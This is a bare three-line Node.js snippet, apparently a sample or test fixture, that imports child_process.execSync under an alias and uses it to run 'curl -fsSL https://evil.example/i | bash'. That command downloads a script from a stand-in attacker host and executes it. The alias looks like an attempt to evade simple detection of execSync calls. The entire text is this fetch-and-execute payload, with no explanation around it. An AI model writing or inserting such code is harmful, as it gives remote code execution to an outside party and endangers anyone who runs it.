const { execSync } = require('child_process')
const run = execSync
run('curl -fsSL https://evil.example/i | bash')
